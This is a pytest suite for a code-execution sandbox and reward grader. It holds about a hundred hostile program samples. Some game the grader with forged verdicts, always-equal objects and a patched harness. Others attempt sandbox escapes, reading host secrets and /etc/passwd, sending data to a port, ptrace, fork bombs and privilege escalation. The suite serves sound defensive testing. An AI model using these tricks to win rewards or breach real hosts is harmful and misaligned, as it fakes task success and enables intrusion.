"""Nothing a program does in the sandbox reaches the host, outlives its limits, or earns a reward
that a right answer does not."""

import contextlib
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import pytest

from seekjax.errors import SandboxError
from seekjax.sandbox import Limits, Outcome, backend, find_backend, grade, grading, run
from seekjax.sandbox.backend import prove, python
from seekjax.sandbox.execution import execute, read_outcome
from seekjax.sandbox.grading import equal_with_types
from seekjax.sandbox.inside.syscalls import ARCHITECTURES, CALLS, filter_program

SHORT = Limits(seconds=0.4, memory=96 << 20, output=4096, scratch=64 << 10)
CASES = [([[1, 2, 3]], 6), ([[]], 0), ([[1]], 1), ([[20, -4]], 16)]  # the sum
HONEST = "def f(v):\n    return sum(v)"
try:
    NAME = find_backend()[0]
except SandboxError:
    NAME = None
needs_sandbox = pytest.mark.skipif(
    NAME is None, reason="no sandbox works here: every attack asserts the refusal instead"
)

# Each body is that of `def f(v)`; SECRET, PORT and LIBC stand for a host file, a listening host
# port and the C library.
BODIES = {
    # leaving early, and saying that all was well
    "exit": "import os; os._exit(0)",
    "system exit": "import sys; sys.exit(0)",
    "raise system exit": "raise SystemExit('right')",
    "fake verdict on stdout": 'print(\'{"reward": 1.0, "reason": "right"}\', flush=True)',
    "fake verdict as the value": "return {'reward': 1.0, 'reason': 'right'}",
    "fake verdict tuple": "return (1.0, 'right')",
    "fake answers on every descriptor": "import os\n    for i in range(64):\n        try: "
    "os.write(i, b'v6' + b'00000002v6' * 4)\n"
    "        except OSError: pass\n    os._exit(0)",
    "zeroes for the secret": "import os\n    os.write(3, bytes(32) + "
    "b'00000002v600000002v000000002v100000003v16'); os._exit(0)",
    "a reason that says right": "import os; os.write(3, b'eright'); os._exit(0)",
    "two results": "import os; os.write(3, b'v6'); return 6",
    "a frame within a frame": "import os; os.write(3, b'v6' + b'00000002v1'); os._exit(0)",
    "all descriptors closed": "import os; os.closerange(0, 64)",
    "atexit": "import atexit, os\n    atexit.register(os.write, 3, b'v6'); raise SystemExit",
    "keyboard interrupt": "raise KeyboardInterrupt",
    "generator exit": "raise GeneratorExit('right')",
    # values that compare as one likes
    "always equal": "return type('E', (), {'__eq__': lambda a, b: True, '__hash__': lambda a: 0})()",
    "always equal integer": "return type('E', (int,), {'__eq__': lambda a, b: True, '__hash__': "
    "int.__hash__})(7)",
    "always equal list": "return type('E', (list,), {'__eq__': lambda a, b: True})()",
    "true for one": "return True if v == [1] else sum(v)",
    "float for integer": "return float(sum(v))",
    "string for integer": "return str(sum(v))",
    "not a number": "return float('nan')",
    "infinity": "return 1e999",
    "bytes": "return bytes(sum(v))",
    "a set": "return {sum(v)}",
    "a generator": "yield sum(v)",
    "itself within itself": "a = [sum(v)]; a.append(a); return a",
    "deep nesting": "a = 6\n    for _ in range(1500): a = [a]\n    return a",
    "nesting for the grader": "import os; os.write(3, b'v' + b'[' * 900 + b']' * 900); os._exit(0)",
    "nesting past every parser": "import os; os.write(3, b'v' + b'[' * 4000); os._exit(0)",
    "an integer of 100,000 digits": "return 10 ** 100000",
    "a lone surrogate": "return '\\ud800'",
    "output without end": "import os\n    while True: os.write(3, b'v' * 4096)",
    "a large value": "return [1] * 10 ** 6",
    "the example's answer": "return 6",
    # tampering with what runs it
    "json patched": "import json; json.dumps = lambda *a, **k: '6'; json.loads = json.dumps; "
    "return 7",
    "built-ins patched": "import builtins as b\n    b.type = lambda x: int; b.repr = lambda x: "
    "'6'; b.len = lambda x: 1; return object()",
    "harness patched": "import __main__ as m\n    m.to_json = lambda x: '6'; m.read_result = m.run_call = "
    "m.evaluate = lambda *a: b'v6'; return 7",
    "exit patched": "import os; os._exit = os.write = lambda *a: 1; return 6",
    "harness called": "import __main__ as m\n    m.serve()",
    "harness frames": "import sys\n    frame = sys._getframe()\n    while frame.f_back: frame = "
    "frame.f_back\n    return repr(frame.f_globals)[:3000]",
    "expected values by garbage collector": "import gc\n"
    "    return [repr(x)[:60] for x in gc.get_objects() if 'expected' in repr(x)[:1000] "
    "or '16' in repr(x)[:1000]][:20]",
    "secret from standard input": "import os; return os.read(0, 100).hex()",
    "secret through /proc": "import os\n    return [os.read(os.open(f'/proc/{p}/fd/0', 0), "
    "99).hex() for p in (1, 'self')]",
    "memory of process 1": "return open('/proc/1/mem', 'rb').read(10).hex()",
    "ptrace": "return 16 if LIBC.ptrace(16, 1, 0, 0) == 0 else 'refused'",
    "process_vm_readv": "import ctypes\n    page = ctypes.create_string_buffer(64)\n"
    "    return 16 if LIBC.process_vm_readv(1, page, 1, page, 1, 0) >= 0 else 'refused'",
    "descriptors of process 1": "fd = LIBC.syscall(434, 1, 0); return LIBC.syscall(438, fd, 1, 0) "
    "if fd >= 0 else 'refused'",
    "limits of process 1": "import resource; return resource.prlimit(1, resource.RLIMIT_CPU, (1, "
    "1))",
    "kill process 1": "import os; os.kill(1, 9)",
    "kill all": "import os; os.kill(-1, 9)",
    "stop the parent": "import os; os.kill(os.getppid(), 19)",
    "alarm": "import signal, os\n    signal.signal(signal.SIGALRM, lambda *a: os._exit(0)); "
    "signal.setitimer(signal.ITIMER_REAL, 0.01)\n    while True: pass",
    "raising class name": "class M(type):\n        __name__ = property(lambda c: 1 / 0)\n    "
    "raise M('E', (Exception,), {})",
    # never ending, never enough
    "endless loop": "while True: pass",
    "endless loop that catches all": "import signal\n    signal.signal(signal.SIGXCPU, "
    "signal.SIG_IGN)\n    while True:\n"
    "        try:\n            while True: 9 ** 9 ** 5\n        except BaseException: pass",
    "sleep": "import time; time.sleep(1000)",
    "print without end": "while True:\n        try: print('x' * 10 ** 4, flush=True)\n        "
    "except OSError: pass",
    "result held open": "import os, time; os.write(3, b'v6'); time.sleep(1000)",
    "a power too high": "return 9 ** 9 ** 9 ** 9",
    "memory at once": "return len(bytearray(10 ** 9))",
    "memory by doubling": "a = [0]\n    while True: a += a",
    "memory maps": "import mmap; return [mmap.mmap(-1, 1 << 26) for _ in range(64)]",
    "recursion": "import sys; sys.setrecursionlimit(10 ** 9)\n    g = lambda: g()\n    return g()",
    "segmentation fault": "import ctypes; ctypes.string_at(0)",
    "abort": "import os; os.abort()",
    "disk filled": "for i in range(10 ** 4): open(f'{i}', 'wb').write(bytes(10 ** 4))",
    "a large file": "open('a', 'wb').write(bytes(1 << 20))",
    "too many files": "keep = [open(f'{i}', 'w') for i in range(1000)]",
    # processes
    "fork": "import os\n    if os.fork() == 0: os._exit(0)\n    return sum(v) + 1",
    "fork bomb": "import os\n    while True:\n        try: os.fork()\n        except OSError: pass",
    "daemon": "import os\n    os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0)\n "
    "   while True: pass",
    "threads": "import threading, time\n    threading.Thread(target=time.sleep, "
    "args=(1000,)).start()",
    "shell": "import os; return os.system('echo right')",
    "subprocess": "import subprocess; return subprocess.check_output(['/bin/sh', '-c', "
    "'id']).decode()",
    "exec": "import os, sys; os.execv(sys.executable, ['python', '-c', 'pass'])",
    "multiprocessing": "import multiprocessing; return multiprocessing.Pool(2).map(sum, [v])",
    # the host's files
    "read a file": "return open(SECRET).read()",
    "password file": "return open('/etc/passwd').read()",
    "a link to a file": "import os; os.symlink(SECRET, 'link'); return open('link').read()",
    "through the parent folders": "return open('/..' + SECRET).read() or open('../' * 20 + "
    "SECRET).read()",
    "every file there is": "import os\n    names = {p for _, d, f in os.walk('/') for p in d + f}\n"
    "    return 16 if names & {'etc', 'home', 'proc', 'sys', 'tmp', 'passwd', "
    "'conftest.py', 'seekjax'} else len(names)",
    "delete": "import os; os.remove(SECRET)",
    "overwrite": "open(SECRET, 'w').write('harm')",
    "poison the standard library": "import sys; open(sys.path[0] + '/os.py', 'a').write('raise "
    "SystemExit')",
    "change modes": "import os, sys; os.chmod(sys.path[0], 0o777)",
    "change modes of descriptors": "import os\n    for i in range(4): os.fchmod(i, 0o777)",
    "environment": "import os; return dict(os.environ) and ' '.join(os.environ.values())",
    "host name": "import os; return os.uname().nodename",
    "mount": "return 16 if LIBC.mount(b'tmpfs', b'/scratch', b'tmpfs', 0, None) == 0 else 'refused'",
    "user namespace": "return 16 if LIBC.unshare(0x10000000) == 0 else 'refused'",
    "other namespace": "return 16 if LIBC.setns(0, 0) == 0 else 'refused'",
    "escape by chroot": "import os; os.mkdir('a'); os.chroot('a'); os.chdir('../' * 20); return "
    "os.listdir('.')",
    "become root": "import os; os.setuid(0); os.setgroups([0])",
    "device": "import os; os.mknod('disk', 0o60666, 0x801); return open('disk', 'rb').read(9).hex()",
    "raw system calls": "return 16 if any(LIBC.syscall(n, 0, 0, 0, 0, 0) >= 0 for n in (248, 250, "
    "321, 323, 425, 298, 319)) else 'refused'",
    # getpid by int 0x80
    "32-bit system calls": "import ctypes, mmap\n    page = mmap.mmap(-1, 4096, prot=7); "
    "page.write(bytes.fromhex('b814000000cd80c3'))\n"
    "    return 16 if "
    "ctypes.CFUNCTYPE(int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() else 0",
    "x32 system calls": "return 16 if any(LIBC.syscall(1 << 30 | n, 2, 1, 0) >= 0 for n in (39, "
    "41, 57)) else 'refused'",
    # the network
    "connect": "import socket; socket.create_connection(('127.0.0.1', PORT)).send(b'stolen')",
    "raw socket call": "import _socket; return _socket.socket().connect_ex(('127.0.0.1', PORT))",
    "datagram": "import socket; socket.socket(2, 2).sendto(b'stolen', ('127.0.0.1', PORT))",
    "abstract socket": "import socket; "
    "socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0')",
    "web": "import urllib.request; return urllib.request.urlopen('http://127.0.0.1:PORT').read()",
    "name service": "import socket; return socket.gethostbyname('example.com')",
}
WHOLE = {
    "exit while loading": "import os; os._exit(0)",
    "no function": "g = 1",
    "not a function": "f = 6",
    "syntax": "def f(v: return 6",
    "nothing": "",
    "zero byte": "def f(v):\0 return 6",
    "nested source": "f = lambda v: " + "(" * 5000 + "6" + ")" * 5000,
    "constant to fold": "f = lambda v: (1 << 10 ** 12) and 6",
    "not text": "\ud800",
    "coroutine": "async def f(v): return sum(v)",
    "state between calls": "import os\ndef f(v):\n    open('seen', 'a').write('x'); return "
    "len(open('seen').read()) * 6",
    "destructor": "class A:\n    def __del__(self):\n        while True: pass\ndef f(v): A(); "
    "return 6",
}
ATTACKS = {
    name: "def f(v):\n    " + body.replace("LIBC", "__import__('ctypes').CDLL(None)")
    for name, body in BODIES.items()
} | WHOLE


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    """What an attack could reach: a file with a secret, a variable with a secret, a port where
    somebody listens."""
    secret = f"secret-{uuid.uuid4()}"
    file = tmp_path_factory.mktemp("host") / "secret"
    file.write_text(secret)
    with pytest.MonkeyPatch.context() as patch, socket.create_server(("127.0.0.1", 0)) as server:
        patch.setenv("SEEKJAX_TEST_SECRET", secret)
        server.settimeout(0)
        yield SimpleNamespace(
            secret=secret,
            file=file,
            server=server,
            port=str(server.getsockname()[1]),
            state=host_state(),
        )


def host_state():
    """What attacks may not change."""
    return [(path, os.stat(path).st_mode) for path in ("/dev/null", python()[1])] + [
        (os.__file__, os.stat(os.__file__).st_mtime_ns)
    ]


@pytest.mark.parametrize("name", ATTACKS)
def test_no_attack_earns_or_harms_or_lasts(name, host, monkeypatch):
    text, outcomes = (
        ATTACKS[name].replace("SECRET", repr(str(host.file))).replace("PORT", host.port),
        [],
    )
    if NAME is None:
        with pytest.raises(SandboxError, match="install bubblewrap"):
            grade(text, "f", CASES, SHORT)
        return
    monkeypatch.setattr(grading, "run", lambda *given: outcomes.extend(run(*given)) or outcomes)
    start = time.monotonic()
    reward, reason = grade(text, "f", CASES, SHORT)
    assert time.monotonic() - start < SHORT.seconds + 8  # a busy machine may be slow to start it
    assert reward == 0
    assert reason
    assert "right" not in reason.split()
    values = [found.value for found in outcomes]
    assert host.secret not in json.dumps(values)
    assert socket.gethostname() not in values
    assert "'refused'" not in text or values == ["refused"] * len(CASES)
    assert "16 if" not in text or 16 not in values  # a system call that went through
    assert host.file.read_text() == host.secret
    assert host_state() == host.state
    with pytest.raises(BlockingIOError):  # nobody knocked
        host.server.accept()


def test_there_are_attacks_enough():
    assert len(ATTACKS) >= 100


@needs_sandbox
@pytest.mark.parametrize(
    "text",
    [
        HONEST,
        "import math, re, typing, dataclasses, collections.abc, itertools\ndef f(v):\n    "
        "print('x' * 1000)\n    return int(math.fsum(v))",
        "def f(v):\n    open('a', 'w').write(repr(v))\n    return sum(eval(open('a').read()))",
        "class A:\n    def f(self, v): return v and v[0] + self.f(v[1:]) or 0\nf = A().f",
    ],
)
def test_honest_programs_earn(text):
    assert grade(text, "f", CASES, Limits(seconds=5)) == (1.0, "right")


@needs_sandbox
def test_sandboxes_run_side_by_side():
    with ThreadPoolExecutor(4) as pool:
        assert set(pool.map(lambda i: grade(HONEST, "f", CASES), range(8))) == {(1.0, "right")}


@needs_sandbox
def test_values_come_back_as_they_were_and_reasons_say_what_happened():
    values = [None, True, -7, 0.1, 1e300, 'a\n"\\\x00é😀', [], [[1, "b"], {"k": [False]}], {"": {}}]
    assert [
        found.value
        for found in run(
            "def f(v): return v", "f", [[value] for value in values], Limits(seconds=5)
        )
    ] == values
    text = "def f(n):\n    if n == 0: return 1 // n\n    while n == 2: pass\n    return (n, n)"
    assert run(text, "f", [[1], [0], [2], [3]], Limits(seconds=0.7)) == [
        Outcome([1, 1], ""),
        Outcome(None, "exception ZeroDivisionError"),
        Outcome(None, "time limit"),
        Outcome(None, "time limit"),
    ]


@needs_sandbox
def test_the_order_of_sets_repeats_so_that_rewards_do():
    assert (
        len(
            {
                json.dumps(run("def f(): return list(set('abcdefgh'))", "f", [[]])[0].value)
                for _ in range(3)
            }
        )
        == 1
    )


@needs_sandbox
def test_expected_values_and_a_used_secret_never_enter(monkeypatch):
    sent, communicate = [], subprocess.Popen.communicate
    monkeypatch.setattr(
        subprocess.Popen,
        "communicate",
        lambda self, text, **given: sent.append(text) or communicate(self, text, **given),
    )
    assert [grade("def f(): return 1", "f", [([], "expected-value")])[0] for _ in range(2)] == [
        0.0,
        0.0,
    ]
    assert b"expected-value" not in b"".join(sent)
    assert len({text[-32:] for text in sent}) == 2


@needs_sandbox
def test_an_unsigned_answer_is_an_error_and_no_verdict():
    for forged in ("head -c 99999 /dev/zero; cat >/dev/null", "cat", "cat >/dev/null; kill -9 $$"):
        with pytest.raises(SandboxError, match="no signed answer"):
            execute(lambda scratch: ["/bin/sh", "-c", forged], HONEST, "f", [[[1]]], SHORT)


BARE = {  # without the system call filter
    "daemon": "import os, ctypes, time\ndef f(n):\n    pid = os.fork()\n    if pid: return pid > "
    "1\n    os.setsid()\n    if os.fork(): os._exit(0)\n"
    "    ctypes.CDLL(None).prctl(15, b'MARK', 0, 0, 0)\n    os.closerange(0, 64)\n    "
    "while True: time.sleep(1)",
    "kill": "import os\ndef f(n):\n    for signal in (2, 9, 15, 19): os.kill(1, signal)\n    "
    "return True",
    "read process 1": "import ctypes\ndef f(n):\n    c = ctypes.CDLL(None)\n    page = "
    "ctypes.create_string_buffer(64)\n"
    "    return c.ptrace(16, 1, 0, 0) == -1 == c.syscall(438, c.syscall(434, 1, 0), 0, 0)",
}


@needs_sandbox
@pytest.mark.parametrize("name", BARE)
def test_namespaces_hold_without_the_filter(name):
    mark = uuid.uuid4().hex[:12]
    assert (
        execute(
            find_backend()[1],
            BARE[name].replace("MARK", mark),
            "f",
            [[1], [2]],
            Limits(seconds=3),
            filtered=False,
        )
        == [Outcome(True, "")] * 2
    )
    assert mark not in {name_of(pid) for pid in os.listdir("/proc") if pid.isdigit()}


def name_of(pid):
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return None  # ended meanwhile


@needs_sandbox
def test_it_ends_by_itself_when_its_starter_is_killed():
    code = (
        "from seekjax.sandbox import *; find_backend(); print(flush=True); run('f = lambda: "
        "[0 for i in iter(int, 1)]', 'f', [[]], Limits(seconds=1.5))"
    )
    starter = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, cwd=Path(__file__).parents[2]
    )
    starter.stdout.readline()
    until = time.monotonic() + 8
    while not (family := descendants(starter.pid)) and time.monotonic() < until:
        time.sleep(0.02)
    assert family
    starter.kill()
    starter.communicate()
    while alive := [
        pid
        for pid in family
        if Path(f"/proc/{pid}").exists() and " Z " not in Path(f"/proc/{pid}/stat").read_text()
    ]:
        assert time.monotonic() < until, alive
        time.sleep(0.05)


def descendants(pid):
    found, parents = {pid}, {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parents[int(stat.parent.name)] = int(stat.read_text().rpartition(")")[2].split()[1])
    while more := {child for child, parent in parents.items() if parent in found} - found:
        found |= more
    return found - {pid}


@needs_sandbox
@pytest.mark.skipif(NAME != "unshare", reason="takes options of unshare away")
@pytest.mark.parametrize(
    ("missing", "hole"),
    [
        ("--net", "reaches the network"),
        ("--pid", "process 1"),
        ("root", "reads "),
        ("--uts", "sethostname"),
    ],
)
def test_a_sandbox_with_a_hole_is_found_out(missing, hole):
    command = find_backend()[1]
    opened = (
        (lambda scratch: command(scratch)[:-2])
        if missing == "root"
        else lambda scratch: [word for word in command(scratch) if word != missing]
    )
    with pytest.raises(backend.BackendError, match=hole):
        prove(opened)


HOLES = [
    ("syscalls.py", 'check(LIBC.capset(header, none), "giving up capabilities")', "mounts"),
    ("harness.py", "        restrict()", "makes sockets"),
    ("root.py", 'check(LIBC.umount2(b".", DETACH), "leaving the old root")', r"reads /\.\."),
    (
        "root.py",
        "mount(None, HERE + inside, None, REMOUNT | BIND | flags)",
        "can write to the standard library",
    ),
    (
        "root.py",
        'mount(None, "/", None, REMOUNT | BIND | READ_ONLY | NO_SETUID | NO_DEVICES)',
        "can write to /",
    ),
]


@needs_sandbox
@pytest.mark.skipif(NAME != "unshare", reason="bubblewrap does some of this itself")
@pytest.mark.parametrize(("file", "line", "hole"), HOLES, ids=[hole for *_, hole in HOLES])
def test_every_line_that_shuts_a_door_is_needed(file, line, hole, monkeypatch, tmp_path):
    inside = shutil.copytree(
        backend.INSIDE, tmp_path / "inside", ignore=shutil.ignore_patterns("__pycache__")
    )
    text = (inside / file).read_text()
    assert text.count(line) == 1
    (inside / file).write_text(text.replace(line, line[: len(line) - len(line.lstrip())] + "pass"))
    monkeypatch.setattr(backend, "INSIDE", inside)
    with pytest.raises(backend.BackendError, match=hole):
        prove(backend.unshare(shutil.which("unshare")))


def test_without_a_backend_it_refuses_in_one_sentence(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))
    backend._find_backend.cache_clear()
    try:
        for attempt in (lambda: run(HONEST, "f", [[[1]]]), lambda: grade(HONEST, "f", CASES)):
            with pytest.raises(
                SandboxError,
                match="bwrap: not installed; unshare: not installed.*install bubblewrap",
            ) as refusal:
                attempt()
            assert "\n" not in str(refusal.value)
            assert ". " not in str(refusal.value)
        for name in ("bwrap", "unshare"):  # as where user namespaces are off
            (tmp_path / name).write_text(
                "#!/bin/sh\necho 'unshare failed: Operation not permitted' >&2\nexit 1\n"
            )
            (tmp_path / name).chmod(0o755)
        with pytest.raises(
            SandboxError,
            match="bwrap: .*Operation not permitted.*unshare: .*Operation not "
            "permitted.*install bubblewrap",
        ):
            grade(HONEST, "f", CASES)
    finally:
        backend._find_backend.cache_clear()


@pytest.mark.parametrize("machine", CALLS)
def test_the_filter_allows_what_is_listed_and_nothing_else(machine):
    lines, allowed = filter_program(machine), set(CALLS[machine].values())
    for number in [*range(600), 1 << 30, (1 << 30) + 1, 2**32 - 1]:
        assert verdict_of(lines, number, ARCHITECTURES[machine]) == (
            0x7FFF0000 if number in allowed else 0x50000 | 38
        )
        assert (
            verdict_of(lines, number, 0x40000003) == 0x80000000
        )  # the 32-bit calls of x86: killed
    assert all(line == struct.unpack("HBBI", struct.pack("HBBI", *line)) for line in lines)
    with pytest.raises(SystemExit, match="riscv64"):
        filter_program("riscv64")


def verdict_of(lines, number, architecture):
    """The kernel's reading of a filter, in small."""
    at, held = 0, None
    while True:
        code, yes, no, operand = lines[at]
        if code == 0x06:
            return operand
        held = {0: number, 4: architecture}[operand] if code == 0x20 else held
        at += 1 + (0 if code == 0x20 else yes if held == operand else no)


@pytest.mark.parametrize(
    ("machine", "header"),
    [("x86_64", "x86_64-linux-gnu/asm/unistd_64.h"), ("aarch64", "asm-generic/unistd.h")],
)
def test_call_numbers_are_the_kernels(machine, header):
    path = Path("/usr/include") / header
    if not path.exists():
        pytest.skip(f"{path} is not installed")
    numbers = dict(re.findall(r"#define __NR(?:3264)?_(\w+)\s+(\d+)", path.read_text()))
    renamed = {"newfstatat": "fstatat"} if machine == "aarch64" else {}
    assert {name: int(numbers[renamed.get(name, name)]) for name in CALLS[machine]} == CALLS[
        machine
    ]


def test_equal_is_equal_in_type():
    assert equal_with_types([1, "a", {"k": (2,)}], [1, "a", {"k": [2]}]) is False
    assert equal_with_types([1, {"k": [2]}], (1, {"k": (2,)}))
    for value, expected in (
        (1, True),
        (True, 1),
        (1.0, 1),
        (0, None),
        ("1", 1),
        ([1, 2], [1]),
        ({"a": 1}, {"b": 1}),
        ([True], [1]),
    ):
        assert not equal_with_types(value, expected)


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"eright",
        b"e" + b"x" * 99,
        b"v",
        b"v{",
        b"v" + b"[" * 9999,
        b"v\xff",
        b"v" + b"9" * 9999,
        b"v" + b"[" * 900 + b"]" * 900,
        b"v" + b'{"a":' * 70 + b"1" + b"}" * 70,
        b"6",
        b"e\xff\n",
    ],
)
def test_what_a_program_writes_is_read_with_suspicion(text):
    assert read_outcome(b"v" + b"[" * 64 + b"]" * 64).reason == ""
    assert read_outcome(text).value is None
    assert read_outcome(text).reason in (
        "ended without a result",
        "its value is not plain data",
    )


def test_bad_input_is_refused():
    with pytest.raises(ValueError, match="at least one"):
        grade(HONEST, "f", [])
    with pytest.raises(ValueError, match="positive"):
        Limits(seconds=0)
    with pytest.raises(ValueError, match="positive"):
        Limits(memory=-1)
